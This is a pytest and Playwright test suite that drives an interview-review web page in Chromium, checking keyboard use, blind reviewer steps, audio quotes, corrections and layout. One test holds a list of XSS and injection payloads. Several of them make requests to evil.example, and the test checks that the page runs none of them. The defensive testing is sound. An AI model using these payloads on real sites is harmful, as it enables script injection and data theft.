"""The review page in a real browser: by keyboard, by ear, blind until it is one's turn, and deaf to hostile text."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import review_house as house

pytest.importorskip("fastapi", reason="the extra 'review' is not installed")
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed"),
]
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--no-first-run",
    "--autoplay-policy=no-user-gesture-required",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[house.Serving]:
    workspace = house.demo_house(tmp_path_factory.mktemp("house"))
    with house.serving(workspace) as serving:
        yield serving


def sign_in(browser: Any, served: house.Serving, reviewer: str, name: str, role: str = "interviewer") -> Any:
    """A page of a reviewer who opened their link; it fails the test on any fault of the page."""
    page = browser.new_context(viewport={"width": 1280, "height": 860}, accept_downloads=True).new_page()
    page.faults = []
    page.on("pageerror", lambda error: page.faults.append(str(error)))
    page.on("console", lambda said: page.faults.append(said.text) if said.type == "error" else None)
    page.goto(served.link(reviewer, name, role))
    page.locator("button:focus").wait_for()
    page.keyboard.press("Enter")
    page.wait_for_url(f"{served.url}/")
    return page


def call_by_keys(page: Any, level: str, reason: str, cite: bool = False) -> None:
    """One call without a mouse: next pillar, level, perhaps a citation, reason, save."""
    for _ in range(4):
        page.keyboard.press("]")
        pillar = page.evaluate("document.activeElement.closest('.pillar').dataset.pillar")
        if page.locator(f"#form-{pillar}").count():
            break
    if cite:
        wanted = page.evaluate(f"document.querySelector('#sides-{pillar} [data-piece]').id")
        for _ in range(60):
            page.keyboard.press("j")
            if page.evaluate("document.activeElement.id") == wanted:
                break
        assert page.evaluate("document.activeElement.id") == wanted
        page.keyboard.press("c")
    page.keyboard.press(level)
    page.keyboard.press("r")
    page.keyboard.press("Control+A")
    page.keyboard.type(reason)
    page.keyboard.press("Control+Enter")
    page.locator(f"#call-{pillar} .saved").wait_for()
    page.keyboard.press("Escape")
    page.evaluate(f"document.querySelector('#pillar-{pillar} h2').focus()")  # where the swap took the focus away


def two_calls(page: Any, levels: str, reason: str, cite: bool) -> None:
    for level in levels:
        call_by_keys(page, level, reason, cite=cite)
    page.keyboard.press("x")


def test_three_calls_by_keyboard_blind_then_visible_then_a_packet(
    browser: Any, served: house.Serving, tmp_path: Path
) -> None:
    from pipeline.adapters.store import people

    with served.workspace.store().session() as db:
        for reviewer in ("iv-1", "iv-9"):
            people.add_reviewer(db, reviewer, reviewer, "interviewer")
            for pillar in ("execution_coding", "ownership_debugging"):
                people.assign(db, reviewer, "c-001", None, pillar)
    ann = sign_in(browser, served, "iv-1", "Ann First")
    ann.goto(f"{served.url}/interviews/i-001")
    assert ann.get_by_role("heading", name="Your call first").is_visible()
    two_calls(ann, "23", "Ran the test alone, seemed smart", cite=False)
    ann.locator("#transcript").wait_for()

    bea = sign_in(browser, served, "iv-9", "Bea Second")
    bea.goto(f"{served.url}/interviews/i-001")
    assert bea.get_by_text("You were not in this interview").is_visible()
    drafts = bea.evaluate("[...document.querySelectorAll('[data-draft]')].map(f => f.dataset.draft.split('/')[0])")
    assert set(drafts) == {"iv-9"}  # who signs in next in this window finds no words of another
    for level in "33":
        call_by_keys(ann, level, "Walked the example through", cite=True)
    ann.keyboard.press("1")
    ann.keyboard.press("x")  # closes for good, so not while a change is not saved
    ann.get_by_text("changed but not saved yet").wait_for()
    ann.keyboard.press("Escape")
    changed = ann.locator("form[data-draft]", has=ann.locator("input[value=weak]:checked"))
    changed.locator("input[value=strong]").check()
    changed = ann.locator("form[data-draft]", has=ann.locator("input[value=strong]:checked")).last
    changed.locator("button.primary").click()
    ann.locator("#say", has_text="Call saved").wait_for()
    ann.keyboard.press("x")
    ann.locator(".steps .closed").nth(1).wait_for()
    bea.reload()
    assert "Ran the test alone" not in bea.content()
    assert "Walked the example" not in bea.content()
    two_calls(bea, "13", "One function does it all", cite=True)
    bea.locator(".steps .open").get_by_text("after the debrief").wait_for()
    assert "Ran the test alone" in bea.content()
    assert "Walked the example" in bea.content()
    assert "One function does it all" not in ann.content()
    ann.reload()
    assert "One function does it all" in ann.content()
    two_calls(ann, "23", "Stays with it", cite=True)
    ann.locator(".steps .closed").nth(2).wait_for()

    ann.goto(f"{served.url}/candidates/c-001")
    with ann.expect_download() as download:
        ann.get_by_role("link", name="Packet to take along").click()
    target = tmp_path / "packet.html"
    download.value.save_as(target)
    assert hear_in_packet(browser, target) > 1
    assert ann.faults == bea.faults == []


def hear_in_packet(browser: Any, target: Path) -> float:
    """Length of the first clip of a packet opened from disk, which must ask nobody for anything."""
    page = browser.new_context().new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(target.as_uri())
    length = page.evaluate(
        "async () => { const a = document.querySelector('audio'); a.preload = 'auto'; a.load();"
        " await new Promise(r => a.addEventListener('loadedmetadata', r)); return a.duration; }"
    )
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
    return float(length)


SAMPLE = """() => { const a = [...document.querySelectorAll('audio')].find(a => !a.paused || a.currentTime > 0);
  return [a.currentTime, a.paused, a.dataset.recording]; }"""
WATCH = """() => { window.seen = []; const tick = () => { for (const a of document.querySelectorAll('audio'))
  if (!a.paused) window.seen.push(a.currentTime); requestAnimationFrame(tick); }; tick(); }"""


@pytest.mark.parametrize("interview", ["i-001", "i-002"])
def test_a_quote_is_heard_from_half_a_second_before_to_its_end(
    browser: Any, served: house.Serving, interview: str
) -> None:
    """Stereo file and per-participant track alike; the transcript goes along."""
    lead = sign_in(browser, served, "lead", "Lea Lead", "hiring_lead")
    lead.goto(f"{served.url}/interviews/{interview}")
    pieces = lead.evaluate(
        "[...document.querySelectorAll('[data-piece]')]"
        ".map(p => [p.id, +p.dataset.from, +p.dataset.to, +p.dataset.line])"
    )
    name, start, end, line = min((p for p in pieces if p[1] > 20), key=lambda p: p[2] - p[1])
    lead.evaluate(WATCH)
    lead.locator(f"#{name} .quote").click()
    lead.locator("body[data-heard=stopped]").wait_for(timeout=30_000)
    seen = lead.evaluate("window.seen")
    at, paused, recording = lead.evaluate(SAMPLE)
    with served.workspace.store().session() as db:
        track = db.value("SELECT recording_id FROM evidence_quotes WHERE evidence_id = ?", [name])
    assert recording == track
    assert paused
    assert abs(seen[0] - (start - 0.5)) < 0.15, (seen[:3], start)
    assert abs(at - end) < 0.15, (at, end)
    assert lead.evaluate("document.querySelector('.line.here').dataset.line") == str(line)
    assert lead.faults == []
    with served.workspace.store().session() as db:
        assert db.value("SELECT count(*) FROM journal WHERE action = 'play' AND detail = ?", [name]) == 1


def test_roles_evidence_and_words_are_corrected_on_the_page(browser: Any, served: house.Serving) -> None:
    lead = sign_in(browser, served, "lead", "Lea Lead", "hiring_lead")
    lead.goto(f"{served.url}/interviews/i-002")
    first = lead.locator("[data-piece]").first
    name = first.get_attribute("id")
    first.locator("summary").click()
    first.get_by_label("Why it is wrong").fill("Said of a colleague")
    first.get_by_role("button", name="Reject it").click()
    lead.locator(f"#{name}").wait_for(state="detached")

    line = lead.locator(".turn.candidate .line").nth(4)
    words = line.locator(".said-text").inner_text()
    line.locator(".said-text").dblclick(position={"x": 60, "y": 10})
    lead.keyboard.press("e")
    lead.get_by_label("What it shows").select_option("clear-names")
    lead.get_by_label("Why it belongs here").fill("Says why")
    assert lead.locator("#add-quote").inner_text().strip() in words
    lead.locator("#add").get_by_role("button", name="Add", exact=True).click()
    added = lead.locator("[data-piece]", has_text="pointed at by a person")
    added.wait_for()
    assert added.locator(".quote").inner_text() in words

    lead.locator("details.speakers summary").click()
    lead.get_by_label("Role of tom").select_option("unknown")
    lead.locator("form", has=lead.get_by_label("Role of tom")).get_by_role("button", name="Set").click()
    lead.get_by_text("Nobody is known to be the candidate").wait_for()
    lead.locator("details.speakers summary").click()
    lead.get_by_label("Role of tom").select_option("candidate")
    lead.locator("form", has=lead.get_by_label("Role of tom")).get_by_role("button", name="Set").click()
    lead.locator("[data-piece]").nth(5).wait_for()
    with served.workspace.store().session() as db:
        kinds = [r["kind"] for r in db.rows("SELECT kind FROM corrections ORDER BY created_at")]
    assert kinds == ["reject", "add", "role", "role"]
    assert lead.faults == []


def test_search_help_timeline_and_who_speaks_by_keys(browser: Any, served: house.Serving) -> None:
    lead = sign_in(browser, served, "lead", "Lea Lead", "hiring_lead")
    lead.goto(f"{served.url}/interviews/i-002")
    lead.keyboard.press("?")
    lead.get_by_role("dialog", name="Keys").get_by_role("button", name="Close").press("Enter")
    lead.keyboard.press("/")
    lead.keyboard.type("invoice")
    lead.locator("#hits", has_text="1 of").wait_for()
    first = lead.locator(".line.hit.at")
    lead.keyboard.press("Enter")
    lead.locator("#hits", has_text="2 of").wait_for()
    box, view = first.bounding_box(), lead.locator("#transcript").bounding_box()
    assert view["y"] <= box["y"] <= view["y"] + view["height"]
    lead.locator(".timeline a").last.click()
    assert lead.evaluate("document.activeElement.id") == lead.locator(".timeline a").last.get_attribute("data-goto")

    line = lead.locator(".turn.candidate .line").first.get_attribute("data-line")
    lead.evaluate(f"document.querySelector('#L{line}').focus()")
    lead.keyboard.press("s")
    lead.get_by_label("are spoken by").select_option(label="arun (interviewer)")
    lead.get_by_label("How you know").fill("Heard it")
    lead.keyboard.press("Enter")
    lead.locator(f".turn.interviewer #L{line}").wait_for()
    with served.workspace.store().session() as db:
        moved = db.rows("SELECT first_line, last_line, author FROM corrections WHERE kind = 'line_speaker'")
    assert moved == [{"first_line": int(line), "last_line": int(line), "author": "lead"}]
    assert lead.faults == []


EVIL = [
    "<script>window.ran=1;fetch('http://evil.example/a')</script>",
    "<img src=http://evil.example/b onerror=window.ran=1>",
    "![x](http://evil.example/c) [x](javascript:window.ran=1)",
    '"><svg onload=window.ran=1>',
    "{{7*7}} ${window.ran=1} =HYPERLINK(1)",
    "<a href=javascript:window.ran=1 id=main hx-get=//evil.example/d hx-trigger=load>x</a>",
    "</textarea><style>@import 'http://evil.example/e'</style>",
]


def test_hostile_talk_feedback_and_names_run_nothing_and_ask_nobody(browser: Any, tmp_path: Path) -> None:
    from pipeline.adapters.store import people
    from pipeline.workspace import Workspace

    workspace = Workspace.create(tmp_path / "ws")
    interview, candidate = "i" * 64, "c" * 64  # the longest ids there may be
    turns = [("left" if i % 2 else "right", text, i * 10.0, i * 10 + 9.0) for i, text in enumerate(EVIL * 2)]
    one = house.entry(interview, candidate, ["iv-1"], tmp_path, transcript="t.vtt", format=EVIL[1])
    (tmp_path / "t.vtt").write_text("WEBVTT", encoding="utf-8")

    def told(_: str, lines: Any) -> tuple[list[house.Point], list[tuple[str, int]]]:
        return [("tests-own-code", n.line, n.line, None) for n in lines if n.speaker == "right"], []

    house.run(workspace, [one], {interview: turns}, house.Pointing(told))
    everything = "\n".join(EVIL)
    with workspace.store().session() as db:
        own = {"interview_id": interview, "candidate_id": candidate, "interviewer_id": "iv-1", "sha256": "0"}
        db.insert(
            "feedback", [{**own, "feedback_id": "f-1", "path": "f.md", "text": everything, "created_at": "2026-01-01"}]
        )
        doubt = {"feedback_id": "f-1", "start": 0, "end": len(everything), "source": "rules"}
        more = {"code": "GF101", "name": EVIL[0], "severity": "error", "text": everything, "question": EVIL[1]}
        db.insert("findings", [{**doubt, **more}])
        db.insert("claims", [{**doubt, "claim": 1, "state": "none_found", "detail": EVIL[2]}])
    with house.serving(workspace) as serving:
        page = sign_in(browser, serving, "iv-1", EVIL[0])
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        first = page.goto(f"{serving.url}/interviews/{interview}").text()
        page.locator(".own-notes").wait_for()
        with workspace.store().session() as db:
            for pillar in ("execution_coding",):
                people.assign(db, "iv-1", candidate, None, pillar)
        page.reload()
        two_calls(page, "1", EVIL[6][:40] + EVIL[0], cite=False)
        page.locator("#transcript").wait_for()
        two_calls(page, "1", EVIL[6][:40] + EVIL[0], cite=True)
        page.locator(".steps .closed").nth(1).wait_for()
        page.locator("[data-piece] summary").first.click()
        page.locator("dl.facts").wait_for()
        page.goto(f"{serving.url}/candidates/{candidate}")
        page.locator(".doubts").wait_for()
        page.set_viewport_size({"width": 390, "height": 844})
        for path in ("/", f"/interviews/{interview}", f"/candidates/{candidate}"):
            page.goto(serving.url + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
        assert page.evaluate("window.ran") is None
        assert page.locator("main img, main svg[onload], main iframe").count() == 0
        assert {url.split("/")[2] for url in asked} == {f"127.0.0.1:{serving.port}"}
        assert "<script>window" not in first
        assert page.faults == []


REASON = "Began with eight services for three engineers; after the hint compared two ways with their costs."
PAGES = {
    "home": ("/", ".person"),
    "first-call": ("/interviews/i-001", ".first-calls"),
    "interview": ("/interviews/i-002", "#evidence"),
    "debrief": ("/candidates/c-002", ".differ"),
}


UNNAMED = """() => [...document.querySelectorAll('button, a, summary, select, textarea, input:not([type=hidden])')]
  .filter(e => !(e.ariaLabel || e.textContent.trim() || e.labels && e.labels.length)).map(e => e.outerHTML)"""


def test_pages_fit_a_desk_and_a_phone_in_light_and_dark(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Nothing is wider than the screen. With VERBATIM_PICTURES=docs/screenshots the pictures are kept there."""
    from pipeline.adapters.store import people, reviews

    workspace = house.demo_house(tmp_path_factory.mktemp("pictures"))
    kept = os.environ.get("VERBATIM_PICTURES")
    folder = Path(kept) if kept else tmp_path_factory.mktemp("shots")
    levels = {"iv-2": ("weak", "ok", "weak"), "iv-5": ("ok", "ok", "strong"), "iv-6": ("weak", "weak", "weak")}
    with house.serving(workspace) as serving:
        with workspace.store().session() as db:
            quotes = db.rows(
                "SELECT evidence_id, pillar FROM evidence_quotes WHERE interview_id = 'i-002' ORDER BY start_s"
            )
            for reviewer, name in (
                ("iv-1", "Ann Okafor"),
                ("iv-2", "Ben Sato"),
                ("iv-5", "Cleo Brandt"),
                ("iv-6", "Dov Lind"),
            ):
                people.add_reviewer(db, reviewer, name, "interviewer")
            people.assign(db, "iv-1", "c-002", None, None)
            for reviewer in ("iv-5", "iv-6"):
                people.assign(db, reviewer, "c-002", None, None)
            for reviewer, (one, two, three) in levels.items():
                for step, level in ((1, one), (2, two)) if reviewer == "iv-2" else ((2, two),):
                    for n, pillar in enumerate(dict.fromkeys(q["pillar"] for q in quotes)):
                        ids = [q["evidence_id"] for q in quotes if q["pillar"] == pillar][:2] if step == 2 else []
                        reviews.save_call(
                            db,
                            {
                                "candidate_id": "c-002",
                                "interview_id": "i-002",
                                "reviewer_id": reviewer,
                                "pillar": pillar,
                                "step": step,
                                "level": level if n % 2 else three,
                                "rationale": REASON,
                                "evidence_ids": ids,
                                "basis": "cited" if ids else "notes",
                            },
                        )
                    reviews.close_step(db, "i-002", reviewer, step, 1 if reviewer == "iv-2" else 2)
        cookies = sign_in(browser, serving, "iv-5", "Cleo Brandt").context.cookies()
        mine = sign_in(browser, serving, "iv-1", "Ann Okafor").context.cookies()
        lead = sign_in(browser, serving, "lead", "Lea Novak", "hiring_lead").context.cookies()
        who = {"home": lead, "first-call": mine, "interview": cookies, "debrief": lead}
        with workspace.store().session() as db:
            db.insert(
                "debrief_openings",
                [
                    {
                        "candidate_id": "c-002",
                        "opened_by": "lead",
                        "missing": "1 things",
                        "reason": "Ann is on leave",
                        "created_at": "2026-03-09",
                    }
                ],
            )
        for scheme in ("light", "dark"):
            for width, height in ((1280, 860), (390, 844)):
                context = browser.new_context(
                    viewport={"width": width, "height": height}, color_scheme=scheme, device_scale_factor=1
                )
                page = context.new_page()
                for name, (path, what) in PAGES.items():
                    context.clear_cookies()
                    context.add_cookies(who[name])
                    page.goto(serving.url + path)
                    page.locator(what).first.wait_for()
                    page.screenshot(path=folder / f"{name}-{scheme}-{width}.png")
                    wide = page.evaluate("document.documentElement.scrollWidth")
                    assert wide <= width, (name, scheme, width, wide)
                    assert page.evaluate(UNNAMED) == [], name
                    assert page.locator("h1").count() == 1
                context.close()
